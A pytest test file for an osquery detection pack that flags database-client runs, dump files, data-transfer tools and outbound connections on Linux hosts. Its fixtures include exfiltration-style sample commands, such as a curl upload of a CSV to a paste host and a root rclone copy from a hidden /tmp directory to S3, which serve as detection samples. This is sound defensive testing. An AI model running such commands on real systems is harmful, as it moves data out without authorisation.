"""The dbwatch pack: sources, rendering, and every query run in SQLite over
osquery's Linux schema with fixture rows chosen so each query returns exactly
the rows it should."""

from __future__ import annotations

import json
import os
import re

import pytest

from osq_dbwatch import catalog
from osq_dbwatch.config import Config, parse_config
from osq_dbwatch.pack import render
from osq_dbwatch.pack.cli import drift, expected_files
from osq_dbwatch.pack.sources import SourceError, load_sources, parse_source
from osq_dbwatch.policy import is_external_address
from osq_dbwatch.tables import TABLES
from osquery_sqlite import OsqueryDB, in_cidr_block, regex_match, split

REPO = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
NO_SESSION = 4294967295

CONFIG = parse_config(
    """
admins:
  groups: [dba, sudo]
internal_networks: [10.0.0.0/8, "fd00::/8"]
extra_tools:
  db_clients: {acmesql: generic}
  transfer_tools: [exfilctl]
"""
)


def _pack(filename: str, config: Config = CONFIG) -> dict:
    return render.build_pack(next(p for p in render.PACK_FILES if p.filename == filename), config)


def _sql(filename: str, query: str, config: Config = CONFIG) -> str:
    return _pack(filename, config)["queries"][query]["query"]


@pytest.fixture()
def db():
    database = OsqueryDB()
    database.insert(
        "users",
        [
            {"uid": 0, "username": "root"},
            {"uid": 33, "username": "www-data"},
            {"uid": 114, "username": "postgres"},
            {"uid": 1000, "username": "alice"},
            {"uid": 1001, "username": "bob"},
            {"uid": 1002, "username": "carol"},
        ],
    )
    database.insert(
        "processes",
        [
            {"pid": 100, "path": "/usr/bin/bash", "cmdline": "-bash", "start_time": 1000},
            {"pid": 200, "path": "/usr/sbin/php-fpm8.2", "cmdline": "php-fpm: pool www", "start_time": 500},
            # pid 300 was reused: this process started after the events below
            {"pid": 300, "path": "/usr/bin/sleep", "cmdline": "sleep 60", "start_time": 9000},
        ],
    )
    yield database
    database.close()


def _exec(pid, path, cmdline, *, uid=1000, auid=1000, parent=100, time=2000, euid=None):
    return {"time": time, "pid": pid, "parent": parent, "path": path, "cmdline": cmdline, "cwd": "/home/alice",
            "uid": uid, "euid": uid if euid is None else euid, "auid": auid}


# ---------------------------------------------------------------------------
# Sources and names


def test_sources_cover_every_contract_query_once_per_variant():
    sources = load_sources()
    names = {s.name for s in sources}
    assert names == set(render.QUERY_NAMES)
    variants = {(s.name, s.variant) for s in sources}
    for name in ("db_cli_exec", "transfer_exec", "db_egress"):
        assert {(name, "audit"), (name, "bpf")} <= variants
    for name in ("dump_file_events", "admin_accounts"):
        assert (name, "native") in variants
    for name in TABLES:
        assert (name, "extension") in variants


def test_every_pack_query_has_valid_name_interval_and_logging():
    for pack_file in render.PACK_FILES:
        pack = _pack(pack_file.filename)
        assert pack["platform"] == "linux"
        assert pack["discovery"]
        for name, q in pack["queries"].items():
            assert not name.endswith(("epoch", "counter")), name
            assert not name.startswith(("query.", "cache.", "config_views.")), name
            assert 1 <= q["interval"] <= 604800
            assert q["platform"] == "linux"
            assert q["description"]
            if q.get("snapshot"):
                assert q["interval"] == 3600 and "removed" not in q
            else:
                assert q["removed"] is False
    for source in load_sources():
        if source.kind == "event":
            assert source.interval == 60, source.name


def test_names_are_logged_as_pack_dbwatch_query():
    # Every pack is loaded under the pack name dbwatch (see build_fragment).
    fragments = render.render_conf_fragments(CONFIG)
    for pack_file in render.PACK_FILES:
        frag = json.loads(fragments[pack_file.fragment])
        assert list(frag["packs"]) == ["dbwatch"]
        assert frag["packs"]["dbwatch"].endswith("/" + pack_file.filename)
    logged = {f"pack_{render.PACK_NAME}_{q}" for p in render.PACK_FILES for q in _pack(p.filename)["queries"]}
    assert logged == {f"pack_dbwatch_{q}" for q in render.QUERY_NAMES}


def test_source_header_is_checked(tmp_path):
    good = (
        "-- name: db_egress\n-- variant: native\n-- interval: 60\n-- description: d\n"
        "-- references: r\n-- false_positives: f\n-- tags: t\nSELECT 1;\n"
    )
    path = str(tmp_path / "db_egress.sql")
    assert parse_source(good, path).sql == "SELECT 1;"
    assert parse_source(good, path).kind == "event"  # the query contract's kind (pack/contract.py)
    bad_cases = {
        "not in the query contract": good.replace("name: db_egress", "name: x_exec"),
        "unknown header key 'kind'": good.replace("-- tags: t", "-- tags: t\n-- kind: event"),
        "unknown header key": good.replace("-- tags: t", "-- tags: t\n-- refs: r"),
        "header lacks": good.replace("-- tags: t\n", ""),
        "outside 1..604800": good.replace("interval: 60", "interval: 604801"),
        "ends in epoch": good.replace("name: db_egress", "name: x_epoch"),
        "duplicate header key": good.replace("-- tags: t", "-- tags: t\n-- tags: u"),
        "one statement": good.replace("SELECT 1;", "SELECT 1; SELECT 2;"),
    }
    for needle, text in bad_cases.items():
        with pytest.raises(SourceError, match=needle):
            parse_source(text, path)
    with pytest.raises(SourceError, match="should be named"):
        parse_source(good, str(tmp_path / "other.sql"))


def contract_columns() -> dict[str, tuple[str, ...]]:
    """Query -> output columns, read from the contract's section 1 table itself."""
    from osquery_sqlite import SHARED

    with open(os.path.join(SHARED, "contract.md"), encoding="utf-8") as handle:
        text = handle.read()
    section = text.split("## 1. Query pack", 1)[1].split("\n## 2.", 1)[0]

    def names(cell: str) -> list[str]:
        cell = re.sub(r"\([^)]*\)", "", cell)  # drop notes such as "(uid's name)"
        return [n.strip(" `") for n in cell.split(",") if n.strip(" `-")]

    kept: dict[str, list[str]] = {}
    added: dict[str, list[str]] = {}
    for line in section.splitlines():
        cells = [c.strip() for c in line.strip().strip("|").split("|")]
        if len(cells) != 4 or not cells[0].startswith("`"):
            continue
        name = cells[0].strip("`")
        kept[name] = kept[cells[2].split("`")[1]] if cells[2].startswith("same as") else names(cells[2])
        added[name] = added[cells[3].split("`")[1]] if cells[3].startswith("same as") else names(cells[3])
    return {name: tuple(kept[name] + added[name]) for name in kept}


def test_contract_columns_are_the_contracts():
    from osq_dbwatch.pack import contract

    # The contract fixes its queries; a query added since (contract.ADDITIONS) is not in its table.
    assert contract_columns() == {k: v for k, v in render.CONTRACT_COLUMNS.items() if k not in contract.ADDITIONS}
    assert not contract.ADDITIONS & set(contract_columns())
    from osquery_sqlite import SHARED

    with open(os.path.join(SHARED, "contract.md"), encoding="utf-8") as handle:
        text = handle.read()
    ext_line = text.split("Extension-backed queries:", 1)[1].split("each", 1)[0]
    assert set(re.findall(r"`([a-z_]+)`", ext_line)) == set(render.EXTENSION_QUERIES)
    assert "Pack name: `dbwatch`" in text and render.PACK_NAME == "dbwatch"


def test_every_query_runs_with_exactly_the_contract_columns(db):
    for pack_file in render.PACK_FILES:
        for name, q in _pack(pack_file.filename)["queries"].items():
            expected = render.CONTRACT_COLUMNS.get(name) or tuple(c for c, _ in TABLES[name].columns())
            assert tuple(db.columns_of(q["query"])) == expected, (pack_file.filename, name)
            db.query(q["query"])  # executes, with osquery's functions
        for discovery in _pack(pack_file.filename)["discovery"]:
            db.query(discovery)


def test_unknown_table_or_column_fails(db):
    import sqlite3

    with pytest.raises(sqlite3.OperationalError, match="no such column"):
        db.query("SELECT loginuid FROM process_events")
    with pytest.raises(sqlite3.OperationalError, match="no such table"):
        db.query("SELECT * FROM bpf_exec_events")
    # A Windows-only column of processes is not there on Linux.
    with pytest.raises(sqlite3.OperationalError, match="no such column"):
        db.query("SELECT elevated_token FROM processes")


def test_osquery_functions_behave_like_osquery():
    assert regex_match("/usr/bin/psql", "[^/]+$", 0) == "psql"
    assert regex_match("abc", "x", 0) is None
    assert regex_match("abc", "(a)", 2) is None
    assert split("a, b,,c", ",", 2) == "c"
    assert split("a,b", ",", 5) is None
    assert in_cidr_block("10.0.0.0/8", "10.1.2.3") == 1
    assert in_cidr_block("10.0.0.0/8", "11.1.2.3") == 0
    with pytest.raises(ValueError):
        in_cidr_block("10.0.0.0/8", "::1")
    with pytest.raises(ValueError):
        in_cidr_block("10.0.0.0/8", "not-an-ip")


# ---------------------------------------------------------------------------
# db_cli_exec and transfer_exec (audit)


def test_db_cli_exec_returns_exactly_db_tool_runs(db):
    db.insert(
        "process_events",
        [
            _exec(1, "/usr/lib/postgresql/15/bin/psql", "/usr/lib/postgresql/15/bin/psql -h db -U app"),
            _exec(2, "/usr/bin/perl", "/usr/bin/perl /usr/bin/psql -h db -c \\copy t to '/tmp/x.csv' csv"),
            _exec(3, "/usr/bin/ls", "ls -la"),
            _exec(4, "/usr/bin/mariadb", "mysql -u root shop"),
            _exec(5, "/usr/bin/perl", "/usr/bin/perl /usr/bin/cpan Foo"),
            _exec(6, "/usr/bin/python3.11", "/usr/bin/python3 /usr/bin/pgcli postgres://db/app"),
            _exec(7, "/usr/bin/clickhouse", "/usr/bin/clickhouse server --config /etc/ch.xml", uid=0, auid=NO_SESSION, parent=1),
            _exec(8, "/usr/bin/clickhouse", "clickhouse client --host ch1"),
            _exec(9, "/usr/bin/pg_dump", "pg_dump -Fc app", uid=114, auid=NO_SESSION, parent=999),
            _exec(10, "/usr/bin/mysqldump", "mysqldump --all-databases", uid=33, auid=NO_SESSION, parent=300),
            _exec(11, "/usr/bin/psqlx", "psqlx"),
            _exec(12, "/usr/bin/grep", "grep psql /etc/passwd"),
            _exec(13, "/opt/acme/bin/acmesql", "acmesql --dump", uid=5555, auid=1001),
            _exec(14, "/usr/bin/bash", "bash -c pg_dumpall"),
            # clickhouse-client is a symlink to the multi-call clickhouse binary
            _exec(15, "/usr/bin/clickhouse", "clickhouse-client --host ch1"),
            # mongosh's shebang is `/usr/bin/env node`: node runs the script
            _exec(16, "/usr/bin/node", "node /usr/local/bin/mongosh mongodb://db1"),
            _exec(17, "/usr/bin/env", "/usr/bin/env node /usr/local/bin/mongosh mongodb://db1"),
        ],
    )
    rows = db.query(_sql("dbwatch.conf", "db_cli_exec"))
    by_pid = {r["pid"]: r for r in rows}
    assert sorted(by_pid) == [1, 2, 4, 6, 8, 9, 10, 13, 14, 15, 16]
    assert by_pid[1]["username"] == "alice" and by_pid[1]["login_user"] == "alice"
    assert by_pid[1]["parent_path"] == "/usr/bin/bash" and by_pid[1]["parent_cmdline"] == "-bash"
    # auid 4294967295: no login session; parent 999 is gone
    assert by_pid[9]["login_user"] == "" and by_pid[9]["username"] == "postgres"
    assert by_pid[9]["parent_path"] == "" and by_pid[9]["parent_cmdline"] == ""
    # parent pid 300 was reused by a process that started after the exec
    assert by_pid[10]["parent_path"] == "" and by_pid[10]["username"] == "www-data"
    # a uid without a users row still gives its row, with an empty name
    assert by_pid[13]["username"] == "" and by_pid[13]["login_user"] == "bob"
    assert list(rows[0]) == list(render.CONTRACT_COLUMNS["db_cli_exec"])


def test_exec_queries_spend_no_regex_on_ordinary_execs(db):
    """regex_match compiles its pattern per call in osquery: only interpreter,
    shell and sub-command execs may reach it."""
    calls = []

    def counting(value, pattern, index):
        calls.append(value)
        return regex_match(value, pattern, index)

    db.conn.create_function("regex_match", 3, counting)
    db.insert("process_events", [_exec(i, "/usr/bin/ls", "ls -la") for i in range(50)]
              + [_exec(99, "/usr/bin/psql", "psql -h db"), _exec(98, "/usr/bin/perl", "/usr/bin/perl /usr/bin/psql")])
    assert len(db.query(_sql("dbwatch.conf", "db_cli_exec"))) == 2
    assert len(db.query(_sql("dbwatch.conf", "transfer_exec"))) == 0
    assert calls and set(calls) == {"/usr/bin/perl /usr/bin/psql"}


def test_db_cli_exec_auid_minus_one_is_no_session(db):
    db.insert("users", [{"uid": -1, "username": "weird"}])
    db.insert("process_events", [_exec(1, "/usr/bin/psql", "psql", auid=-1)])
    (row,) = db.query(_sql("dbwatch.conf", "db_cli_exec"))
    assert row["login_user"] == ""


def test_transfer_exec_keeps_sessions_web_accounts_and_staging_dirs(db):
    db.insert(
        "process_events",
        [
            _exec(1, "/usr/bin/curl", "curl -T /tmp/x.csv https://paste.example"),
            _exec(2, "/usr/bin/curl", "curl http://203.0.113.9/x", uid=33, auid=NO_SESSION, parent=200),
            _exec(3, "/usr/bin/gzip", "gzip /var/log/syslog.1", uid=0, auid=NO_SESSION, parent=1),
            _exec(4, "/tmp/.x/rclone", "/tmp/.x/rclone copy /tmp/d s3:b", uid=0, auid=NO_SESSION, parent=1),
            _exec(5, "/usr/bin/python3.11", "/usr/bin/python3 /usr/local/bin/aws s3 cp /tmp/d s3://b/"),
            _exec(6, "/usr/bin/ls", "ls /tmp"),
            _exec(7, "/usr/local/bin/exfilctl", "exfilctl up"),
            _exec(8, "/usr/bin/psql", "psql -h db"),
        ],
    )
    rows = db.query(_sql("dbwatch.conf", "transfer_exec"))
    assert sorted(r["pid"] for r in rows) == [1, 2, 4, 5, 7]
    web = next(r for r in rows if r["pid"] == 2)
    assert web["username"] == "www-data" and web["login_user"] == "" and web["parent_path"] == "/usr/sbin/php-fpm8.2"


# ---------------------------------------------------------------------------
# dump_file_events


def test_dump_file_events_keeps_dump_names_under_dump_roots(db):
    def fe(path, action="CREATED", uid=1000):
        return {"time": 2000, "target_path": path, "action": action, "inode": 7, "uid": uid, "size": 10,
                "sha256": "ab", "category": "dbwatch_dumps"}

    db.insert(
        "file_events",
        [
            fe("/tmp/db.csv"),
            fe("/tmp/notes.txt"),
            fe("/home/alice/x.sql.gz", action="UPDATED"),
            fe("/var/lib/postgresql/x.sql"),
            fe("/tmp/gone.csv", action="DELETED"),
            fe("/tmp/DB.SQL", uid=115),
            fe("/tmp/app.sqlite"),
            fe("/srv/out/users.tsv.tar.zst", action="MOVED_TO"),
            fe("/tmpfoo/x.sql"),
        ],
    )
    rows = db.query(_sql("dbwatch.conf", "dump_file_events"))
    assert sorted(r["target_path"] for r in rows) == [
        "/home/alice/x.sql.gz", "/srv/out/users.tsv.tar.zst", "/tmp/DB.SQL", "/tmp/db.csv",
    ]
    owners = {r["target_path"]: r["owner"] for r in rows}
    assert owners["/tmp/db.csv"] == "alice" and owners["/tmp/DB.SQL"] == ""


def test_dump_name_regex_agrees_with_catalog():
    names = [
        "a.sql", "a.SQL", "a.sql.gz", "a.csv.gz.gpg", "a.tar", "a.sql.tar.gz", "a.txt", "a.json", "a.dump",
        "a.db", "x.bak", ".sql", "a.gz", "a.rdb.zst", "sql", "a.sqlx", "a.csvgz", "a.pgdump.enc", "a.tgz",
    ]
    for name in names:
        by_regex = regex_match(("/tmp/" + name).lower(), render.dump_name_regex(), 0) is not None
        assert by_regex == (catalog.dump_suffix_strength(name) == "strong"), name


def test_dump_roots_come_from_config(db):
    config = parse_config("dump_roots: [/data/exports]")
    db.insert("file_events", [
        {"time": 1, "target_path": "/data/exports/a.sql", "action": "CREATED", "uid": 0},
        {"time": 1, "target_path": "/tmp/a.sql", "action": "CREATED", "uid": 0},
    ])
    rows = db.query(_sql("dbwatch.conf", "dump_file_events", config))
    assert [r["target_path"] for r in rows] == ["/data/exports/a.sql"]
    frag = json.loads(render.render_conf_fragments(config)["dbwatch.conf"])
    assert frag["file_paths"] == {"dbwatch_dumps": ["/data/exports/%%"]}


# ---------------------------------------------------------------------------
# db_egress


def _conn(pid, addr, *, path="/usr/bin/curl", auid=1000, family=2, action="connect"):
    return {"time": 2000, "pid": pid, "path": path, "auid": auid, "family": family, "remote_address": addr,
            "remote_port": 443, "success": 1, "action": action}


def test_db_egress_keeps_only_outbound_connects(db):
    db.insert(
        "socket_events",
        [
            _conn(1, "203.0.113.5"),
            _conn(2, "127.0.0.1"),
            _conn(3, "::1", family=10),
            _conn(4, "169.254.169.254"),
            _conn(5, "fe80::1", family=10),
            _conn(6, "10.1.2.3"),
            _conn(7, "::ffff:10.1.2.3", family=10),
            _conn(8, "::ffff:198.51.100.7", family=10),
            _conn(9, "2001:db8::1", family=10),
            _conn(10, "fd12::1", family=10),
            _conn(11, "", family=1),
            _conn(12, "203.0.113.5", action="bind"),
            _conn(13, "203.0.113.5", path="/usr/sbin/nginx", auid=NO_SESSION),
            _conn(14, "203.0.113.5", path="/tmp/x", auid=NO_SESSION),
            _conn(15, "203.0.113.5", path="/usr/bin/python3.11", auid=NO_SESSION),
            _conn(16, "224.0.0.251"),
            _conn(17, "0.0.0.0"),
        ],
    )
    rows = db.query(_sql("dbwatch.conf", "db_egress"))
    assert sorted(r["pid"] for r in rows) == [1, 8, 9, 14, 15]
    one = next(r for r in rows if r["pid"] == 1)
    assert one["login_user"] == "alice" and list(one) == list(render.CONTRACT_COLUMNS["db_egress"])
    assert next(r for r in rows if r["pid"] == 14)["login_user"] == ""


def test_db_egress_address_filter_agrees_with_policy(db):
    """The SQL address filter and policy.is_external_address (the correlator's) say the same."""
    addresses = [
        "8.8.8.8", "127.0.0.1", "127.1.2.3", "10.0.0.5", "10.255.0.1", "11.0.0.1", "169.254.1.1",
        "192.168.1.1", "172.16.0.1", "224.0.0.1", "239.1.1.1", "240.0.0.1", "0.0.0.0", "::1", "::",
        "fe80::1", "febf::1", "fec0::1", "ff02::1", "2001:db8::5", "fd00::5", "fdff::1", "fc00::1",
        "::ffff:127.0.0.1", "::ffff:8.8.4.4", "::ffff:10.9.9.9", "255.255.255.255", "250.1.1.1", "0.1.2.3",
        "100::1", "64:ff9b::1", "2002::1", "3fff::1", "4000::1", "1fff::1", "fbff::1", "fe7f::1", "feff::1",
        "::2", "200:1::1", "fe80::1%eth0",
    ]
    for config in (CONFIG, Config()):
        db.conn.execute("DELETE FROM socket_events")
        db.insert("socket_events", [_conn(i, a, family=10 if ":" in a else 2) for i, a in enumerate(addresses)])
        kept = {r["remote_address"] for r in db.query(_sql("dbwatch.conf", "db_egress", config))}
        for address in addresses:
            assert (address in kept) == is_external_address(config, address), (address, config.internal_networks)


# ---------------------------------------------------------------------------
# admin_accounts


def test_admin_accounts_lists_members_of_configured_groups(db):
    db.insert("groups", [{"gid": 27, "groupname": "sudo"}, {"gid": 500, "groupname": "dba"}, {"gid": 100, "groupname": "users"}])
    db.insert("user_groups", [{"uid": 1000, "gid": 27}, {"uid": 1001, "gid": 500}, {"uid": 1002, "gid": 100}, {"uid": 1000, "gid": 100}])
    rows = db.query(_sql("dbwatch.conf", "admin_accounts"))
    assert sorted((r["uid"], r["username"], r["groupname"]) for r in rows) == [(1000, "alice", "sudo"), (1001, "bob", "dba")]
    # Issue 13 item 4: a pack rendered from defaults reports the broad default set too (the correlator
    # decides with its own admins.groups), and never renders `IN ()`.
    rendered = _sql("dbwatch.conf", "admin_accounts", Config())
    assert "IN ()" not in rendered
    rows = db.query(rendered)
    assert sorted((r["username"], r["groupname"]) for r in rows) == [("alice", "sudo"), ("bob", "dba")]
    # A site group outside the default set is reported when the pack is rendered from that site's config.
    db.insert("groups", [{"gid": 600, "groupname": "dbops"}])
    db.insert("user_groups", [{"uid": 1002, "gid": 600}])
    assert ("carol", "dbops") not in {(r["username"], r["groupname"]) for r in db.query(rendered)}
    site = _sql("dbwatch.conf", "admin_accounts", parse_config("admins:\n  groups: [dbops]\n"))
    assert ("carol", "dbops") in {(r["username"], r["groupname"]) for r in db.query(site)}


def test_the_shipped_packs_render_no_empty_lists():
    for name in ("dbwatch.conf", "dbwatch-bpf.conf"):
        with open(os.path.join(REPO, "packs", name), encoding="utf-8") as handle:
            assert "IN ()" not in handle.read(), name


# ---------------------------------------------------------------------------
# BPF variant and discovery


def test_bpf_variant_same_columns_and_filters(db):
    db.insert(
        "bpf_process_events",
        [
            {"time": 2000, "pid": 1, "parent": 100, "uid": 1000, "path": "/usr/bin/psql", "cmdline": "psql -h db", "cwd": "/", "exit_code": "0"},
            {"time": 2000, "pid": 2, "parent": 100, "uid": 1000, "path": "/usr/bin/psql", "cmdline": "psql", "cwd": "/", "exit_code": "-2"},
            {"time": 2000, "pid": 3, "parent": 100, "uid": 1000, "path": "/usr/bin/ls", "cmdline": "ls", "cwd": "/", "exit_code": "0"},
            {"time": 2000, "pid": 4, "parent": 100, "uid": 1000, "path": "/usr/bin/perl", "cmdline": "/usr/bin/perl /usr/bin/pg_dump app", "cwd": "/", "exit_code": "0"},
        ],
    )
    rows = db.query(_sql("dbwatch-bpf.conf", "db_cli_exec"))
    assert sorted(r["pid"] for r in rows) == [1, 4]
    assert rows[0]["auid"] is None and rows[0]["login_user"] == "" and rows[0]["username"] == "alice"
    db.insert(
        "bpf_socket_events",
        [
            {"time": 2000, "pid": 1, "uid": 1000, "path": "/usr/bin/curl", "family": 2, "remote_address": "203.0.113.5",
             "remote_port": 443, "exit_code": "-115", "syscall": "connect"},
            {"time": 2000, "pid": 2, "uid": 1000, "path": "/usr/bin/curl", "family": 2, "remote_address": "127.0.0.1",
             "remote_port": 443, "exit_code": "0", "syscall": "connect"},
            {"time": 2000, "pid": 3, "uid": 0, "path": "/usr/sbin/nginx", "family": 2, "remote_address": "203.0.113.5",
             "remote_port": 443, "exit_code": "0", "syscall": "connect"},
        ],
    )
    rows = db.query(_sql("dbwatch-bpf.conf", "db_egress"))
    assert [(r["pid"], r["success"]) for r in rows] == [(1, 1)]


@pytest.mark.parametrize("bpf, active", [(None, {"dbwatch.conf"}), ("false", {"dbwatch.conf"}), ("true", {"dbwatch-bpf.conf"})])
def test_discovery_picks_audit_or_bpf(db, bpf, active):
    if bpf is not None:
        db.insert("osquery_flags", [{"name": "enable_bpf_events", "value": bpf}])
    runs = {
        p.filename
        for p in render.PACK_FILES
        if p.filename != "dbwatch-extension.conf" and all(db.query(d) for d in _pack(p.filename)["discovery"])
    }
    assert runs == active


def test_extension_pack_needs_all_extension_tables_registered(db):
    (discovery,) = _pack("dbwatch-extension.conf")["discovery"]
    names = list(TABLES)
    db.insert("osquery_registry", [{"registry": "table", "name": n, "owner_uuid": 7} for n in names[:-1]])
    db.insert("osquery_registry", [{"registry": "config", "name": names[-1]}])
    assert db.query(discovery) == []
    db.insert("osquery_registry", [{"registry": "table", "name": names[-1], "owner_uuid": 7}])
    assert db.query(discovery) == [{"1": 1}]


def test_extension_queries_select_the_extension_tables(db):
    for name, cls in TABLES.items():
        row = {c: (1 if t != "TEXT" else "x") for c, t in cls.columns()}
        db.insert(name, [row])
        (got,) = db.query(_sql("dbwatch-extension.conf", name))
        assert got == row


# ---------------------------------------------------------------------------
# Rendering from one source


def test_packs_on_disk_match_the_renderer():
    problems = drift(Config(), os.path.join(REPO, "packs"), os.path.join(REPO, "deploy"))
    assert problems == [], "run `make pack`: " + "; ".join(problems)


def test_render_follows_the_config():
    config = parse_config("admins: {groups: [\"o'dba\"]}\nextra_tools: {dump_tools: {acmedump: generic}}")
    sql = _sql("dbwatch.conf", "admin_accounts", config)
    assert "'o''dba'" in sql
    assert "'acmedump'" in _sql("dbwatch.conf", "db_cli_exec", config)
    assert "'acmedump'" not in _sql("dbwatch.conf", "db_cli_exec", Config())
    for tool in catalog.DB_TOOLS:
        assert f"'{tool.name}'" in _sql("dbwatch.conf", "db_cli_exec", Config())
    for tool in catalog.TRANSFER_TOOLS:
        assert f"'{tool.name}'" in _sql("dbwatch.conf", "transfer_exec", Config())


def test_cli_render_and_check(tmp_path, capsys):
    from osq_dbwatch.cli import main

    assert main(["pack", "render", "--defaults", "--file", "dbwatch.conf"]) == 0
    out = capsys.readouterr().out
    assert json.loads(out) == json.loads(render.render_osquery(Config())["dbwatch.conf"])
    packs, deploy = tmp_path / "packs", tmp_path / "deploy"
    assert main(["pack", "render", "--defaults", "--output", str(packs)]) == 0
    assert main(["pack", "render", "--defaults", "--format", "fleet", "--output", str(packs / "fleet")]) == 0
    assert main(["pack", "render", "--defaults", "--format", "fleet", "--tier", "free",
                 "--output", str(packs / "fleet-free")]) == 0
    assert main(["pack", "render", "--defaults", "--format", "conf", "--output", str(deploy / "osquery.conf.d")]) == 0
    assert main(["pack", "check", "--packs", str(packs), "--deploy", str(deploy)]) == 0
    (packs / "dbwatch.conf").write_text("{}\n")
    assert main(["pack", "check", "--packs", str(packs), "--deploy", str(deploy)]) == 1
    assert "dbwatch.conf: differs" in capsys.readouterr().err
    bad = tmp_path / "bad.yml"
    bad.write_text("admins: {groupz: [x]}\n")
    assert main(["pack", "render", "--config", str(bad)]) == 2
    assert "unknown key 'groupz'" in capsys.readouterr().err
    assert set(expected_files(Config(), "p", "d")) >= {"p/dbwatch.conf", "p/fleet/lib/dbwatch.reports.yml", "d/osquery.conf.d/dbwatch.conf"}


def test_shared_scenario_logs_have_the_columns_this_pack_emits():
    """The scenarios the correlator is tested on were written as this pack logs:
    every row of a native query carries exactly the pack's columns, less the
    ones agents older than 5.x cannot log (db_egress.status, contract 2026-12-06)."""
    import glob

    from osquery_sqlite import SHARED

    seen = set()
    for path in sorted(glob.glob(os.path.join(SHARED, "scenarios", "*.log"))):
        with open(path, encoding="utf-8") as handle:
            for line in handle:
                try:
                    record = json.loads(line)
                except ValueError:
                    continue
                if not isinstance(record, dict):
                    continue
                last = str(record.get("name", "")).rsplit("/", 1)[-1]
                query = next((q for q in render.CONTRACT_COLUMNS if last.endswith(q)), None)
                if query is None:
                    continue
                rows = []
                if isinstance(record.get("columns"), dict):
                    rows.append(record["columns"])
                rows += [r for r in record.get("snapshot") or [] if isinstance(r, dict)]
                diff = record.get("diffResults") or {}
                rows += [r for r in (diff.get("added") or []) + (diff.get("removed") or []) if isinstance(r, dict)]
                for row in rows:
                    missing = set(render.CONTRACT_COLUMNS[query]) - set(row)
                    assert set(row) <= set(render.CONTRACT_COLUMNS[query]), (path, query, sorted(row))
                    assert missing <= render.NEWER_AGENT_COLUMNS.get(query, set()), (path, query, sorted(row))
                    seen.add(query)
    from osq_dbwatch.pack import contract

    # The shared scenarios predate the queries added since the contract (contract.ADDITIONS).
    assert seen == set(render.CONTRACT_COLUMNS) - contract.ADDITIONS


def test_the_query_contract_is_what_the_pack_renders():
    """pack/contract.py: one entry per scheduled query; extension queries are the extension's tables."""
    from osq_dbwatch.pack import contract

    assert render.QUERY_NAMES == contract.NAMES
    assert render.EXTENSION_QUERIES == tuple(TABLES)
    assert {s.name for s in load_sources()} == set(contract.NAMES)
    for query in contract.QUERIES:
        columns = query.columns or tuple(c for c, _ in TABLES[query.name].columns())
        if query.time_column:
            assert query.time_column in columns, query.name
    for source in load_sources():
        assert source.kind == contract.BY_NAME[source.name].kind
